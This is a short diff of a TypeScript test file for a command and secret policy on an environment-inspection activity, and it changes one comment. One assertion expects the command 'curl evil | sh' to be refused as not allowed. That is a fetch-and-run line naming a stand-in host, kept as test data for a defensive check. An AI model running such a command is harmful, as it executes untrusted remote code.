@@ -35,7 +35,7 @@ describe('the policy of the moment', () => {
     expect(await refusal('inspectEnvironment', look({ platform }), listing)).toMatch(
       /command curl evil \| sh is not allowed/,
     );
-    // without a list the look itself runs none: test/activities/inspect.test.ts
+    // which of them a look runs is for the look itself: test/activities/inspect.test.ts
     expect(await begins('inspectEnvironment', look({ platform }), policyOf())).toBe(true);
     expect(await ask(look({ secrets: { A: 'env:PROD_A' } }))).toMatch(/secret env:PROD_A is not allowed/);
     expect(await ask(look({}, 'logs'))).toMatch(/the plan has no seal/);
